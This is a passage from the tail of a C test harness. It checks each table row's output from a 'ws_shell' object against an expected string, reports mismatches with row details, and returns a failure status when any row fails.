		if (strcmp(g.text, r->want) != 0) {
			fprintf(stderr, "FAIL row %zu [%s] \"%.100s\" (%s)\n   want: %.400s\n   got:  %.400s\n",
				i + 1, r->sess, r->line, r->why, r->want, g.text);
			bad++;
		}
	}
	ws_shell_free(s);
	printf("%zu rows, %d failed\n", n, bad);
	return bad != 0;
}
